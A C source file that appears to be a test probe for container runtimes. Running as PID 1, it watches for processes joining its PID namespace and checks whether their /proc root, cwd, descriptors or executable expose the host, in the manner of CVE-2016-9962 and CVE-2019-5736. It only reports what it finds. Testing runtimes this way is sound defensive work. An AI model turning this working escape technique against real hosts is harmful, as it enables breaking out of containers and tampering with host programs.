/* PID 1 that attacks every process that comes to its PID namespace from outside, in the moment in
 * which that may still be a program of the host (CVE-2016-9962, CVE-2019-5736; case 48). Prints
 * "got WHAT ..." for each thing of the host that it laid hands on:
 *   root, cwd, fd   a folder from which the MARKER, a path of the host's, can be reached
 *   exe             a program of another file system or file than its own, open for writing
 *   capabilities    a process that may more than this one
 *   newcomers MARKER [UID]   as that user where one is given */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST 32768
static const char *marker;
static struct stat root;
static unsigned long long permitted_own;
static int programs[64], program_count;

static int same(const struct stat *a, const struct stat *b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Whether the host's file is to be reached from a folder: straight down, and from its topmost one. */
static void try_folder(int folder, int pid, const char *what) {
  struct stat here;
  if (fstat(folder, &here) != 0 || !S_ISDIR(here.st_mode) || same(&here, &root)) return;
  int at = dup(folder);
  for (int level = 0; at >= 0 && level < 64; level++) {
    struct stat before, after;
    if (faccessat(at, marker + 1, F_OK, 0) == 0) {
      printf("got %s of %d\n", what, pid);
      break;
    }
    int up = openat(at, "..", O_PATH | O_DIRECTORY);
    if (up < 0) break;
    fstat(at, &before), fstat(up, &after);
    close(at), at = up;
    if (same(&before, &after)) break;
  }
  if (at >= 0) close(at);
}

static void try_link(int pid, const char *name) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int folder = open(path, O_PATH);
  if (folder < 0) return;
  try_folder(folder, pid, name);
  close(folder);
}

static void try_descriptors(int pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *list = opendir(path);
  if (!list) return;
  for (struct dirent *entry; (entry = readdir(list));) {
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "fd/%s", entry->d_name);
    try_link(pid, path);
  }
  closedir(list);
}

/* What runs cannot be written (ETXTBSY), so it is held until it no longer does. */
static void hold_program(int pid) {
  char path[300];
  struct stat seen, held;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int program = open(path, O_PATH);
  if (program < 0) return;
  if (fstat(program, &seen) != 0 || program_count == 64) { close(program); return; }
  for (int i = 0; i < program_count; i++)
    if (fstat(programs[i], &held) == 0 && same(&held, &seen)) { close(program); return; }
  programs[program_count++] = program;
}

static void try_programs(void) {
  for (int i = 0; i < program_count; i++) {
    char path[64];
    struct stat seen;
    snprintf(path, sizeof path, "/proc/self/fd/%d", programs[i]);
    int out = open(path, O_WRONLY);
    if (out < 0) continue;
    fstat(out, &seen);
    /* A sealed copy in memory is nobody's file, and stays as it is (memfd_create(2)). */
    int seals = fcntl(out, F_GET_SEALS);
    if (seals < 0 || !(seals & F_SEAL_WRITE)) printf("got exe %lu\n", (unsigned long)seen.st_ino);
    close(out);
    programs[i--] = programs[--program_count];
  }
}

static unsigned long long permitted(int pid) {
  char path[64], text[4096];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  int file = open(path, O_RDONLY);
  if (file < 0) return 0;
  ssize_t length = read(file, text, sizeof text - 1);
  close(file);
  text[length > 0 ? length : 0] = 0;
  if (strstr(text, "State:\tZ")) return 0; /* it does nothing any more */
  char *line = strstr(text, "CapPrm:");
  return line ? strtoull(line + 7, NULL, 16) : 0;
}

int main(int count, char **words) {
  static char told[MOST];
  marker = words[1];
  setvbuf(stdout, NULL, _IONBF, 0);
  stat("/", &root);
  if (count > 2 && (setgid(atoi(words[2])) != 0 || setuid(atoi(words[2])) != 0)) return 1;
  permitted_own = permitted(getpid());
  /* PIDs come one after the other, so the next ones are known: the start has used up some already. */
  int highest = fork();
  if (highest == 0) _exit(0);
  waitpid(highest, NULL, 0);
  puts("watching");
  for (;;) {
    for (int pid = highest > 8 ? highest - 8 : 2; pid < highest + 8 && pid < MOST; pid++) {
      if (pid == getpid()) continue;
      try_link(pid, "root");
      try_link(pid, "cwd");
      hold_program(pid);
      try_descriptors(pid);
      unsigned long long may = permitted(pid);
      if (may & ~permitted_own && !told[pid]) {
        told[pid] = 1;
        printf("got capabilities %llx of %d\n", may, pid);
      }
      char path[64];
      snprintf(path, sizeof path, "/proc/%d", pid);
      if (pid >= highest && access(path, F_OK) == 0) highest = pid + 1;
    }
    try_programs();
  }
}
